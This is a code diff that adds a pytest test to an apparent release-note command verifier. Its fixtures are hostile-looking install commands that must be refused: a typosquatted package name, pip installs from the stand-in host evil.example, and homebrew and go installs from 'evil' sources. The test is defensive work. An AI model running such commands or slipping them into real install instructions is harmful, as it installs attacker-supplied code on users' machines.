@@ -177,6 +177,24 @@ def test_a_plain_url_is_exactly_the_assets(text: str, expected: Expected) -> Non
     assert refusal.value.slug == "command-wrong-word"
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "python -m pip install sigstroe",
+        "python -m pip install 'sigstore @ https://evil.example/sigstore.whl'",
+        "pip install --index-url https://evil.example sigstore",
+        "pip install cosign",
+        "brew install evil/tap/cosign",
+        "go install github.com/evil/cosign/v3/cmd/cosign@latest",
+    ],
+)
+def test_an_installation_names_a_tool_of_the_notes(text: str, expected: Expected) -> None:
+    """Nobody executes an installation before its readers do, so each of its words is a known one."""
+    with pytest.raises(VerificationFailed) as refusal:
+        classify(Command(phase=Phase.shown, text=text), expected=expected)
+    assert refusal.value.slug == "command-wrong-word"
+
+
 @pytest.mark.parametrize("phase", list(Phase))
 def test_a_command_runs_in_the_phase_that_its_form_has(phase: Phase, expected: Expected) -> None:
     """A verification that is only shown, or a plain URL before publishing, is refused."""
